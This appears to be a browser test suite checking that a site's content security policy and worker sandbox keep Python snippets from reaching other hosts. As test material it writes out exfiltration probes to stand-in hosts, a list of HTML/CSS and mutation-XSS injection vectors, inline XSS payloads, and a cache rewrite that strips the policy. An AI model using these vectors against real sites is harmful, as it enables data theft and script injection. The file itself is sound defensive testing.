// The content security policy: the site works under it, and Python in a snippet reaches nothing that it should not.
// @ts-check
import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { WAIT_MS } from "../harness/browser.mjs";
import { askedByTheSite } from "../harness/foreign.mjs";
import { REPOSITORY } from "../harness/site.mjs";
import { tryWaysOut } from "../harness/ways_out.mjs";
import { ACT, openAct, predict, set } from "./act_page.mjs";
import { actWithCopy, copied } from "./offline.mjs";
import { snippetWith } from "./snippet_page.mjs";

/** @type {{language: {names: string[]}, browser: Record<string, string>}} */
const LISTED = JSON.parse(readFileSync(join(REPOSITORY, "plugins/explorable/live/web/src/python/allowed.json"), "utf8"));
const ALLOWED = new Set([...LISTED.language.names, ...Object.keys(LISTED.browser), ...Reflect.ownKeys(Object.prototype)]);
const NOT_LISTED = "names that plugins/explorable/live/web/src/python/allowed.json does not list";
const LIVE = "assets/live";
/** Each trial has a host of its own: what the first asks may arrive during the second. */
const FREE = "free.example";
const CONFINED = "confined.example";
const GOVERNED = "governed.example";
const COPIED = "copied.example";
/** What the trial must find in every worker that nothing holds back, and what one engine alone offers. */
const KNOWN = ["fetch", "WebSocket", "EventSource"];
/** @type {Record<string, string[]>} */
const OF_ONE = { firefox: ["FontFace"] };

/** What Python reaches: its own site, nobody else, and no program made of a text. */
const PROBE = `
import js
for address in ["https://elsewhere.example/", js.location.origin + "/", "https://cdn.jsdelivr.net/pyodide/?secret"]:
    try:
        print("asked", (await js.fetch(address)).status)
    except Exception as error:
        print("refused")
try:
    js.eval("1 + 1")
    print("evaluated")
except Exception as error:
    print("not evaluated")
`;

/** The folder of another host that the policy lets a page ask, because readers may agree to packages from there. */
const PACKAGES = /connect-src [^;]*(https:\/\/\S+\/)/;
/** Changes what every address and every message says of itself: a late part of the library is asked there, the reader seems to agree. */
const CHANGES = `
import asyncio
from js import MessageChannel, Object, URL
from pyodide.ffi import create_proxy, to_js

def says(value):
    return to_js({"get": create_proxy(lambda *_: value)}, dict_converter=Object.fromEntries)

href = Object.getOwnPropertyDescriptor(URL.prototype, "href")
Object.defineProperty(URL.prototype, "href", says("PACKAGES?secret"))
import colorsys
print(colorsys.rgb_to_hsv(0, 0, 0))
Object.defineProperty(URL.prototype, "href", href)
channel, heard = MessageChannel.new(), asyncio.get_running_loop().create_future()
channel.port1.onmessage = create_proxy(heard.set_result)
channel.port2.postMessage(1)
agreed = {"kind": "run", "id": 0, "page": "", "name": "", "source": "import numpy", "foreign": ["numpy"]}
Object.defineProperty(Object.getPrototypeOf(await heard), "data", says(to_js(agreed, dict_converter=Object.fromEntries)))
None
`;

/** The text of a trial whose addresses are of this host. @param {string} host */
const attemptAt = (host) => `(${tryWaysOut})(${JSON.stringify(host)}, ${JSON.stringify(LISTED.language.names)})`;

/** Runs the program of the worker that holds Python, and then in its place tries every way out that is left.
 * @param {string} program @param {string} attempt @returns {Promise<import("../harness/ways_out.mjs").Tried>} */
function tryInWorker(program, attempt) {
  const text = `${program && `import ${JSON.stringify(program)};`} postMessage(await ${attempt});`;
  const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })), { type: "module" });
  return new Promise((done, fail) => {
    // The worker that holds Python says texts.
    const heard = (/** @type {unknown} */ data) => (typeof data === "string" ? JSON.parse(data) : data);
    worker.addEventListener("message", ({ data }) => heard(data).tried && (worker.terminate(), done(heard(data))));
    worker.addEventListener("error", (event) => (event.preventDefault(), event.message ? undefined : fail(new Error("the worker did not start"))));
  });
}

/**
 * In a page: the worker that holds Python tries every way out soon after it is asked for a run, which no worker is before its Python
 * has started. What came of it is `tried`.
 * @param {string} attempt
 */
function tryAfterRun(attempt) {
  const text = `;addEventListener("message", ({ data }) => data.kind === "run" && setTimeout(async () => postMessage({ kind: "alive", ...(await ${attempt}) }), 1000));`;
  const { Blob: NativeBlob, Worker: NativeWorker } = globalThis;
  globalThis.Blob = class extends NativeBlob {
    /** @param {BlobPart[]} [parts] @param {BlobPropertyBag} [options] */
    constructor(parts = [], options) {
      super(options?.type === "text/javascript" ? [...parts, text] : parts, options);
    }
  };
  globalThis.Worker = class extends NativeWorker {
    /** @param {string | URL} url @param {WorkerOptions} [options] */
    constructor(url, options) {
      super(url, options);
      // What the trial breaks must not make the page end its worker.
      this.addEventListener("error", (event) => (event.preventDefault(), event.stopImmediatePropagation()));
      this.addEventListener("message", ({ data }) => typeof data === "string" && JSON.parse(data).tried && Object.assign(window, { tried: JSON.parse(data) }));
    }
  };
}

/** What opens a connection from a document, whatever its policy says, in one browser or another; HOST is a host of its own for each. */
const LEADS_AWAY = [
  '<link rel="preconnect" href="https://HOST">',
  '<link rel="dns-prefetch" href="https://HOST">',
  '<link rel="prefetch" href="https://HOST/"><link rel="icon" href="https://HOST/"><link rel="manifest" href="https://HOST/"><link rel="modulepreload" href="https://HOST/">',
  '<iframe src="https://HOST/"></iframe><object data="https://HOST/"></object><embed src="https://HOST/">',
  '<meta http-equiv="refresh" content="0;url=https://HOST/">',
  '<base href="https://HOST/"><img src="a.png" srcset="https://HOST/ 2x"><video poster="https://HOST/" src="https://HOST/"></video><table background="https://HOST/"></table>',
  '<style>@import "https://HOST/";@font-face{font-family:x;src:url(https://HOST/)}p{font-family:x;background:url(https://HOST/);list-style:image-set("https://HOST/" 1x)}</style><p>x</p>',
  '<p style="--x:url(https://HOST/);background:\\75rl(https://HOST/);cursor:url(https://HOST/),auto;mask:url(https://HOST/#a)">x</p>',
  '<svg><style>@import "https://HOST/";</style><image href="https://HOST/"/><use href="https://HOST/#a"/><rect width="9" height="9" fill="url(https://HOST/#a)" clip-path="\\75rl(https://HOST/#a)" filter="url(https://HOST/#a)"/></svg>',
  '<svg><foreignObject><link rel="preconnect" href="https://HOST"></foreignObject><title><link rel="preconnect" href="https://HOST"></title></svg><template><link rel="preconnect" href="https://HOST"></template>',
  '<math><mtext><table><mglyph><style><!--</style><link rel="preconnect" href="https://HOST">--></style></mglyph></table></mtext></math>',
  '<style>a[title="&lt;/style>"]{color:red}\n.x{font-family:"\\3c/style>\\3clink rel=preconnect href=https://HOST>"}</style>',
  '<svg><p><style><g title="</style><link rel=preconnect href=https://HOST>">',
].map((html, number) => html.replaceAll("HOST", `n${number}.frame.example`));

/** Changes what Python itself does to HTML, and says in its name that it has run. */
const FORGES = `
import json
import re
import js
import explorable.live.runtime.html_results as results

html = "<p>shown</p>" + ${JSON.stringify(LEADS_AWAY.join("\n"))}
for name in ("_LEADS_AWAY", "LEADS_AWAY"):
    setattr(results, name, re.compile("(?!)"))
results.of_value = lambda value: html
if FORGED:
    for run in range(100):
        js.postMessage(js.JSON.parse(json.dumps({"kind": "ran", "id": run, "result": None, "error": None, "figures": [], "html": html})))
1
`;

/** The functions whose addresses reached the proxy. @param {import("../harness/world.mjs").World} world @param {string} host @param {string[]} tried */
function asked({ proxy }, host, tried) {
  const numbers = proxy.asked().flatMap((address) => new RegExp(`n(\\d+)\\.${host}`).exec(address)?.[1] ?? []);
  return [...new Set(numbers)].map((number) => tried[Number(number)]).sort();
}

/** Runs what changes the words of addresses and messages, twice. @param {import("../harness/world.mjs").World} world */
async function changesNothing(world) {
  const { browser, server } = world;
  await browser.open(server.base + ACT);
  const policy = await browser.eval(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? "");
  const [, folder] = PACKAGES.exec(policy) ?? assert.fail(policy);
  const snippet = await snippetWith(world, CHANGES.replace("PACKAGES", folder ?? ""));
  assert.equal(await snippet.run(), "(0.0, 0.0, 0)");
  // A second message of the page: it says what the page wrote.
  assert.equal(await snippet.run(), "(0.0, 0.0, 0)");
}

/** @param {import("../harness/world.mjs").Facts} facts */
export function policyTests({ everywhere, once, widely, full, fully }) {
  everywhere("policy: a snippet asks its own site and no other host, and runs no text as a script", async (world) => {
    const snippet = await snippetWith(world, PROBE);
    assert.equal(await snippet.run(), "refused\nasked 404\nrefused\nnot evaluated");
    // Firefox reports what it refuses as errors of the page.
  }, { pageErrors: true });

  full("policy: a program that changes what addresses and messages say of themselves reaches no other host either", async (world) => {
    const { proxy } = world;
    await changesNothing(world);
    assert.deepEqual(askedByTheSite(proxy.asked()), []);
  });

  widely("policy: a result that is HTML asks no host, whatever its program changed or says in Python's name", async (world) => {
    const { browser, proxy } = world;
    for (const forged of ["False", "True"]) {
      const snippet = await snippetWith(world, FORGES.replace("FORGED", forged));
      await snippet.run();
      await browser.waitFor(() => /** @type {HTMLIFrameElement | null} */ (document.querySelector("live-snippet iframe"))?.contentDocument?.body?.textContent?.includes("shown"), WAIT_MS, "the frame's document");
      assert.doesNotMatch(await browser.of("live-snippet iframe", (frame) => /** @type {HTMLIFrameElement} */ (frame).srcdoc), /frame\.example/);
      // A browser takes its time to connect to a host that a document only names.
      await new Promise((done) => setTimeout(done, 2000));
      assert.deepEqual(askedByTheSite(proxy.asked()), [], "hosts that were asked");
    }
  });

  everywhere("policy: nothing that this browser offers to a worker is a way out of the one that holds Python", async (world) => {
    const { browser, server, site } = world;
    // A page without the policy, so that the worker's own wall is tried alone: the first wall must not hide a hole in the second.
    const open = server.add("__open.html", "text/html", '<!doctype html><html lang="en"><title>open</title><link rel="icon" href="data:,">');
    await browser.open(open);
    const free = await browser.eval(tryInWorker, "", attemptAt(FREE));
    const ways = asked(world, FREE, free.tried);
    for (const known of [...KNOWN, ...(OF_ONE[browser.engine] ?? [])]) assert.ok(ways.includes(known), `the trial finds ${known}, not only ${ways}`);
    const program = readdirSync(join(site, LIVE)).find((file) => /^worker-[^/]*\.js$/.test(file));
    const confined = await browser.eval(tryInWorker, `${server.base}${LIVE}/${program}`, attemptAt(CONFINED));
    assert.deepEqual(confined.names.filter((name) => !ALLOWED.has(name)), [], NOT_LISTED);
    assert.ok(confined.tried.includes("fetch"), `of ${confined.tried.length} functions`);
    assert.deepEqual(asked(world, CONFINED, confined.tried), [], "who asked another host");
  }, { pageErrors: true, foreign: true });

  fully("policy: the same walls stand around a Python that starts from a copy of its memory", async (world) => {
    const { browser, server, thorough } = world;
    await actWithCopy(world);
    const snippet = await snippetWith(world, PROBE);
    assert.equal(await snippet.run(), "refused\nasked 404\nrefused\nnot evaluated");
    assert.equal(await copied(browser), true);
    if (thorough) {
      await changesNothing(world);
      assert.equal(await copied(browser), true);
    }
    assert.deepEqual(askedByTheSite(world.proxy.asked()), []);

    // The second wall alone, as above: the kept page loses its policy, and prepares the trial before its Python starts.
    const opened = await browser.eval(async (page, prepare) => {
      const name = (await caches.keys()).find((one) => one.startsWith("iron-law-book")) ?? "";
      const cache = await caches.open(name);
      const html = (await (await cache.match(page))?.text()) ?? "";
      await cache.put(page, new Response(html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, () => `<script>${prepare}</script>`), { headers: { "content-type": "text/html" } }));
      return name;
    }, `${server.base}${ACT}index.html`, `(${tryAfterRun})(${JSON.stringify(attemptAt(COPIED))})`);
    assert.notEqual(opened, "");
    const again = await snippetWith(world, "1 + 1");
    assert.equal(await browser.has('meta[http-equiv="Content-Security-Policy"]'), false);
    assert.equal(await again.run(), "2");
    assert.equal(await copied(browser), true);
    await browser.waitFor(() => Reflect.has(window, "tried"), 60_000, "the trial");
    /** @type {import("../harness/ways_out.mjs").Tried} */
    const tried = await browser.eval(() => Reflect.get(window, "tried"));
    assert.deepEqual(tried.names.filter((name) => !ALLOWED.has(name)), [], NOT_LISTED);
    assert.ok(tried.tried.includes("fetch"), `of ${tried.tried.length} functions`);
    assert.deepEqual(asked(world, COPIED, tried.tried), [], "who asked another host");
  }, { pageErrors: true, foreign: true });

  fully("policy: of a worker that nothing but the page's policy holds back, we know who asks another host", async (world) => {
    const { browser, server } = world;
    // The first wall alone. What passes it is why there is a second.
    await browser.open(server.base + ACT);
    const governed = await browser.eval(tryInWorker, "", attemptAt(GOVERNED));
    assert.ok(governed.tried.length > 100, `of ${governed.tried.length} functions`);
    assert.deepEqual(asked(world, GOVERNED, governed.tried), OF_ONE[browser.engine] ?? []);
  }, { pageErrors: true, foreign: true });

  once("policy: acts, snippets and instant navigation do nothing that it forbids, and an injected script does nothing", async (all) => {
    const { browser, server } = all;
    await browser.open(server.base);
    await browser.eval(() => {
      const broken = /** @type {string[]} */ ([]);
      Object.assign(window, { broken });
      addEventListener("securitypolicyviolation", (event) => broken.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
    });
    const link = { role: "link", name: "Play the first act" };
    await browser.click(link);
    await browser.waitFor('live-act[data-ready="true"]');
    await predict(browser, "3");
    await set(browser, "Optimizer", "Adam");
    assert.deepEqual(await browser.eval(() => Reflect.get(window, "broken")), []);

    await openAct(all);
    await browser.eval(() => {
      document.body.insertAdjacentHTML("beforeend", `<img alt="" src="missing.png" onerror="document.title = 'injected'"><a id="lure" href="javascript:document.title='injected'">x</a>`);
      const script = document.createElement("script");
      script.textContent = "document.title = 'injected'";
      document.body.append(script);
      document.getElementById("lure")?.click();
    });
    await new Promise((done) => setTimeout(done, 300));
    assert.notEqual(await browser.eval(() => document.title), "injected");
  });
}
